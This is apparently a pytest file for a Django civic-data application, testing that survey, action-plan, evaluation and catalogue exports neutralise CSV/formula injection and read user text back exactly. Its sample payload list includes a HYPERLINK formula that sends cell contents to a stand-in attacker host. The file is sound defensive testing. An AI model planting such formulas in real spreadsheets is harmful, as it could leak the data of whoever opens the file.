"""Formula injection (CSV injection): text that starts with = + - @ tab or CR never reaches a spreadsheet
as a live formula, in any .xlsx or .csv we write; and what we wrote reads back to the very same text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kotacerdas.lib import cells

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src" / "kotacerdas"
EVIL = ['=HYPERLINK("http://jahat.example/?x="&A1,"Klik")', "+62 812 3456", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "'=sudah dikutip", "'biasa"]


@given(st.text())
def test_it_reads_back_every_text_exactly(text: str) -> None:
    safe = cells.cell(text)
    assert cells.uncell(safe) == text
    assert not safe.startswith(cells.TRIGGERS)


def test_it_leaves_numbers_and_plain_text_alone() -> None:
    assert cells.cell(-5) == -5 and cells.cell(-2.5) == -2.5 and cells.cell(None) is None
    assert cells.cell("Dinas Kesehatan") == "Dinas Kesehatan"
    assert cells.uncell("'abc") == "'abc"  # a quote in front of harmless text is the person's own


def test_it_has_every_writer_go_through_the_one_helper() -> None:
    """Each module that makes a workbook saves it through lib/cells, each CSV writer writes through it."""
    missing = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        rel = str(path.relative_to(SRC))
        if rel in ("lib/cells.py", "monitoring/demo.py"):  # the helper; demo's CSV holds only codes and numbers
            continue
        if "Workbook()" in text and not re.search(r"workbook_bytes|neutralise_workbook|_to_bytes", text):
            missing.append(rel)
        if re.search(r"csv\.(writer|DictWriter)\(", text) and "lib.cells" not in text and "lib import cells" not in text:
            missing.append(rel)
    assert not missing, missing


def _public_answer(survey, **extra: str) -> dict[str, str]:
    service = survey.services.get(subdimension="governance.layanan_publik")
    data = {"service": str(service.pk), "kecamatan": "16.07.05", "age_band": "25-34", "gender": "P",
            "q_governance.layanan_publik.1": "4", "q_governance.layanan_publik.2": "5",
            "q_governance.layanan_publik.3": "3", "website": ""}
    data.update(extra)
    return data


def test_it_keeps_a_citizens_formula_as_text_in_the_survey_export(actors) -> None:
    from django.core.cache import cache

    from kotacerdas.surveys.models import Response, Survey

    cache.clear()
    survey = Survey.objects.select_related("region", "cycle").get(region_id="16.07", cycle__year=2024)
    evil = EVIL[0]
    r = Client().post(f"/survei/{survey.token}/", _public_answer(survey, contact_name=evil, contact_phone="+62 812"))
    assert r.status_code == 302, r.content[:300]
    stored = Response.objects.filter(survey=survey, contact_name=evil).get()
    coordinator = Client()
    coordinator.force_login(actors.citra)
    xlsx = coordinator.get(f"/survei/kelola/{survey.pk}/unduh/", {"format": "xlsx", "pribadi": "1"}).content
    ws = load_workbook(io.BytesIO(xlsx))["Tanggapan"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == stored.pk)
    name, phone = row[header.index("nama")], row[header.index("telepon")]
    assert name.data_type != "f" and phone.data_type != "f"
    assert name.value == "'" + evil and cells.uncell(name.value) == evil
    assert not any(c.data_type == "f" for line in ws.iter_rows() for c in line)
    text = coordinator.get(f"/survei/kelola/{survey.pk}/unduh/", {"format": "csv", "pribadi": "1"}).content
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    line = next(r for r in rows if r[0] == str(stored.pk))
    assert line[rows[0].index("nama")] == "'" + evil and line[rows[0].index("telepon")] == "'+62 812"
    assert not any(v.startswith(cells.TRIGGERS) for r in rows for v in r)


def test_it_round_trips_an_action_plan_with_formula_like_text(actors) -> None:
    from kotacerdas.actionplans import excel, jobs, queries
    from kotacerdas.actionplans.actions import do_update_item
    from kotacerdas.actionplans.models import ActionItem
    from kotacerdas.core.models import JobStatus
    from kotacerdas.regions.models import Region

    region, cycle = Region.objects.get(code="16.07"), queries.plan_cycle(2024)
    assert cycle is not None
    items = list(ActionItem.objects.filter(region=region, cycle=cycle).order_by("code")[:4])
    wanted = {}
    for item, (title, target) in zip(items, [(EVIL[0], EVIL[1]), (EVIL[2], EVIL[3]), (EVIL[5], EVIL[6]),
                                              ("Rapat =koordinasi", "@target")], strict=True):
        do_update_item(actors.citra, item, item.version, {"title": title, "target": target})
        wanted[item.code] = (title, target)
    content = excel.export_plan(region, cycle, queries.plan_items(region.code, cycle))
    ws = load_workbook(io.BytesIO(content))["Rencana Aksi"]
    assert not any(c.data_type == "f" for line in ws.iter_rows() for c in line)
    job = jobs.start_import(actors.citra, region, cycle, content, "plan.xlsx", run_now=True)
    assert job.status == JobStatus.DONE, job.report
    assert job.report["summary"]["updated"] == 0 and job.report["summary"]["errors"] == 0
    for code, (title, target) in wanted.items():
        item = ActionItem.objects.get(region=region, cycle=cycle, code=code)
        assert (item.title, item.target) == (title, target)


def test_it_round_trips_the_evaluation_worksheet(actors) -> None:
    from kotacerdas.evaluations import actions, queries
    from kotacerdas.evaluations.models import Answer, Submission
    from kotacerdas.reports import xlsx

    sub = (Submission.objects.filter(region_id="16.07", status__in=["draft", "returned"])
           .select_related("cycle").order_by("-cycle__year").first())
    if sub is None:
        pytest.skip("no editable submission of Banyuasin in the demo")
    pack = queries.cycle_pack(sub.cycle)
    codes = [n.code for n in pack.indicators()][:len(EVIL)]
    from django.utils import timezone

    Submission.objects.filter(pk=sub.pk).update(deadline=timezone.now() + dt.timedelta(days=3))
    sub.refresh_from_db()
    for code, text in zip(codes, EVIL, strict=False):
        current = Answer.objects.filter(submission=sub, indicator=code).first()
        actions.do_save_answer(actors.citra, sub, code, pack.scale_min, text.strip(),
                               expected_version=current.version if current else 0)
    content = xlsx.export_worksheet(sub)
    wb = load_workbook(io.BytesIO(content))
    # The worksheet's only formulas are its running score, built from the pack's structure: references,
    # numbers and a few functions (reports/worksheet/formulas.check_formula); no typed text is one.
    from kotacerdas.reports.worksheet.formulas import check_formula

    for ws in wb.worksheets:
        for line in ws.iter_rows():
            for c in line:
                if c.data_type == "f":
                    check_formula(c.value, wb.sheetnames)
                    assert ws.title == "Ringkasan" or c.column_letter == "J" or c.coordinate in ("D2", "F2")
    texts = [c for ws in wb.worksheets for line in ws.iter_rows() for c in line
             if isinstance(c.value, str) and cells.uncell(c.value) in {t.strip() for t in EVIL}]
    assert len(texts) >= len(EVIL) - 1 and all(c.data_type != "f" for c in texts)
    report = xlsx.import_worksheet(actors.citra, sub, content)
    assert report.ok and report.changed == 0, report.to_dict()
    for code, text in zip(codes, EVIL, strict=False):
        assert Answer.objects.get(submission=sub, indicator=code).justification == text.strip()


def test_it_round_trips_the_programme_catalogue(actors, tmp_path) -> None:
    from kotacerdas.catalogue.models import Programme
    from kotacerdas.regions.models import Region
    from kotacerdas.reports import importers

    region = Region.objects.get(code="16.07")
    Programme.objects.filter(region=region, code="jam-kunci").update(description=EVIL[0], target_group="-warga")
    path = tmp_path / "katalog.xlsx"
    path.write_bytes(importers.export_programmes(region))
    ws = load_workbook(path)["Program"]
    assert not any(c.data_type == "f" for line in ws.iter_rows() for c in line)
    from kotacerdas.catalogue.rows import HEADERS, ProgrammeLookups, ProgrammeRow
    from kotacerdas.core.rows import check_row
    from kotacerdas.core.sheets import cell_text, read_table

    table = read_table(path, first_data_sheet=True)
    records = table.records(table.locate(HEADERS))
    jam = next(values for _n, values in records if cell_text(values.get("code")) == "jam-kunci")
    row, problems = check_row(ProgrammeRow, jam, {"lookups": ProgrammeLookups(region)})
    assert problems == [] and row is not None
    assert row.description == EVIL[0] and row.target_group == "-warga"
    # and the whole file imports back as it was: nothing to change
    report = importers.IMPORTERS["programmes"].run(actors.citra, path, region, None, True)
    assert report.changed == 0 and report.unchanged == report.rows, report.to_dict()


def test_it_never_fails_on_text_a_workbook_cannot_hold() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    cells.append(ws, ["baris\x0bdari Word\x01", "=1+1", "x" * 40_000, -3])
    wb2 = load_workbook(io.BytesIO(cells.workbook_bytes(wb)))
    a, b, c, d = (cell.value for cell in wb2.active[1])
    assert a == "barisdari Word" and b == "'=1+1" and len(c) == cells.XLSX_CELL_MAX and d == -3


def test_it_exports_survey_answers_with_control_characters(actors) -> None:
    from kotacerdas.surveys import actions as surveys
    from kotacerdas.surveys.models import Response, Survey

    survey = Survey.objects.get(region_id="16.07", cycle__year=2024)
    Response.objects.filter(pk=Response.objects.filter(survey=survey).first().pk).update(
        contact_name="Siti\x0bAminah\x01")  # pasted from a word processor
    ws = load_workbook(io.BytesIO(surveys.export_responses(actors.citra, survey, fmt="xlsx",
                                                           include_personal=True)))["Tanggapan"]
    assert "SitiAminah" in [c.value for line in ws.iter_rows() for c in line]
